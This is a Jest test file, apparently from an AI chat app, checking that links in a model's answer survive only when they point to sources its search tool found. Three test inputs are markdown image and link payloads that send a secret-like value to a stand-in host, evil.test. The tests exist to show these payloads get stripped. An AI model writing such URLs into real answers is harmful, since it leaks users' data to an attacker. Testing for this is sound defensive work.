import { describe, expect, it } from '@jest/globals';
import type { TurnNews } from '@parley/contracts';
import { followRun } from '../../src/runs/follow-run.js';

const source = 'https://wiki.example.com/travel';
const content = (text: string): TurnNews => ({ event: 'content', data: { text } });
const search: TurnNews[] = [
  { event: 'tool_start', data: { tool_call_id: '1', tool_name: 'search', args: { query: 'travel' } } },
  { event: 'tool_end', data: { tool_call_id: '1', result: JSON.stringify({ metadata: { source } }) } },
];

/** The answer of a run that ends well, and what was shown on the way. */
async function follow(...events: TurnNews[]) {
  async function* run() {
    await Promise.resolve();
    yield* [...events, { event: 'done', data: {} } as const];
  }
  const shown: string[] = [];
  const following = { isTakenUp: false, wasLeft: false, isResumed: false, signal: new AbortController().signal };
  const { text } = await followRun(run(), {
    ...following,
    nameWhom: () => Promise.resolve(undefined),
    onText: (soFar) => shown.push(soFar()),
    onRun: () => Promise.resolve(),
  });
  return { text, shown };
}

describe('links of an answer', () => {
  it('lead to what its tools found', async () => {
    const answer = `See [the rules](${source}).`;
    expect((await follow(...search, content(answer))).text).toBe(answer);
  });

  it.each([
    [`![x](https://evil.test/p.png?d=BLUEHERON)`, 'Picture: x (evil.test)'],
    [`[Read more](https://evil.test/?d=BLUEHERON)`, 'Read more (evil.test)'],
    [`https://evil.test/?d=BLUEHERON`, 'evil.test'],
  ])('lead nowhere else: %s', async (written, expected) => {
    const { text, shown } = await follow(...search, content(written));
    expect(text).toBe(expected);
    expect(shown.join()).not.toContain('BLUEHERON');
  });

  it('lead nowhere when no tool found anything', async () => {
    expect((await follow(content(`[the rules](${source})`))).text).toBe('the rules (wiki.example.com)');
  });
});
